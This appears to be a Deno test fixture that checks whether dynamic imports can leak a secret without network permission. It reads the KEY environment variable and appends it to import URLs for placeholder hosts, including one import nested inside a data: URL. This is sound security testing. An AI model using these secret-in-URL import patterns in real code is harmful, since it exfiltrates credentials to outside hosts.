// Importing needs no net permission: a computed address would carry the secret to a host.
import "http://@OPEN@/code.ts";
import { tryAll } from "./attempt.ts";

export const main = () => {
  const key = Deno.env.get("KEY");
  return tryAll({
    declared: () => import(`http://@OPEN@/leak.ts?${key}`),
    other: () => import(`http://@SHUT@/leak.ts?${key}`),
    nested: () => import(`data:text/javascript,import "http://@OPEN@/leak.ts?${key}"`),
  });
};
